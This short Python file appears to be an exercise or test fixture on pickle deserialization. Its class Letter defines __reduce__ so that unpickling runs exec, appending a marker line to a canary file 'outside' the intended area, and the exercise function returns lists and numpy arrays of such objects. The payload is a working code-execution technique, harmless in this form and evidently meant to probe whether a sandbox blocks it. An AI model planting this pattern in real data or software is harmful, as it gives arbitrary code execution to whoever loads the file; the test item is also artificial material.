"""The answer is an object that, when it is unpickled somewhere, writes into a file of somebody else's."""
# covers: pickles
# honest: exercise2
# %% exercise1
class Letter:
    def __reduce__(self):
        return exec, ("open('@CANARY@/outside.txt', 'a').write('a pickle was here')",)

def exercise1(W,B,*rest):
    return [Letter() for w in W], numpy.array([Letter()]*4, dtype=object)
